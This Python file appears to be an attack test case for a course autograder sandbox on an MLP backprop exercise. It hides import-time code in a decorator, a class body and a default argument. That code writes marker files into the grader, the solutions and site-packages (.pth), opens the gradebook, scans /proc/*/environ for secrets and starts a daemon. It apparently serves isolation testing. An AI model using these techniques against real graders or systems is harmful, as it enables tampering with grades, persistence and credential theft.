"""Import-time code that the notebook channel keeps (a decorator, a class body, a default argument: definitions()
drops only module-level statements that call something) appends to the checkout, writes the course and
site-packages, reads every /proc/*/environ and starts a daemon. It runs, but only inside the sandbox."""
MODULE = "ex3_mlp_backprop"
CLASS = "notebook"
MODES = ("nbgrader",)
SHOWS = ":SMUGGLED:"

_ATK_DONE = []  # assignments that call nothing: kept
_ATK_RAN = []


def _atk_smuggled(where):
    """Runs at import, once per way in; every write is one line or one small file naming the marker."""
    marker = _ATTACK["marker"]
    _ATK_RAN.append(where)
    if len(_ATK_RAN) > 1:
        return where
    root, course = _ATTACK["checkout"], _ATTACK.get("course", "")
    appends = [f"{root}/autograder/grading/runner.py", f"{_ATTACK['solutions']}/ex3_mlp_backprop.py"]
    creates = [f"{_ATTACK['site_packages']}/{marker}.pth", f"{root}/autograder/{marker}_planted.py",
               f"{course}/{marker}-smuggled.txt", f"{course}/autograded/{marker}-smuggled.txt"]
    creates += [f"{folder}/{marker}.pth" for folder in _ATTACK["user_sites"]]
    for path, mode in [(p, "a") for p in appends] + [(p, "w") for p in creates]:
        try:
            with open(path, mode) as handle:
                handle.write(f"\n# {marker} smuggled\n")
            _ATK_DONE.append(path)
        except OSError:
            pass
    try:
        fd = _atk_os.open(f"{course}/gradebook.db", _atk_os.O_WRONLY)
        _atk_os.close(fd)
        _ATK_DONE.append("gradebook.db opened for writing")
    except OSError:
        pass
    for pid in [p for p in _atk_os.listdir("/proc") if p.isdigit()][:400]:
        if _atk_find_secret(_atk_read(f"/proc/{pid}/environ")):
            _ATK_DONE.append(f"the secret in /proc/{pid}/environ")
            break
    _atk_daemon(_atk_nap, seconds=15)
    return where


def _atk_nap(deadline):
    import time
    while time.monotonic() < deadline:
        time.sleep(0.2)


@(lambda function: _atk_smuggled("decorator") and function)
def _atk_decorated():
    return None


class _AtkClassBody:
    ran = _atk_smuggled("class body")


def _atk_default(ran=_atk_smuggled("default argument")):
    return ran


def _atk_sigmoid_grad(z, _orig=sigmoid_grad):
    if _ATK_DONE:
        _atk_win(f"smuggled import-time code reached {_ATK_DONE}")
    raise RuntimeError(f"{_ATTACK['marker']}:SMUGGLED:{_ATK_RAN} ran at import, inside the sandbox only")


sigmoid_grad = _atk_sigmoid_grad
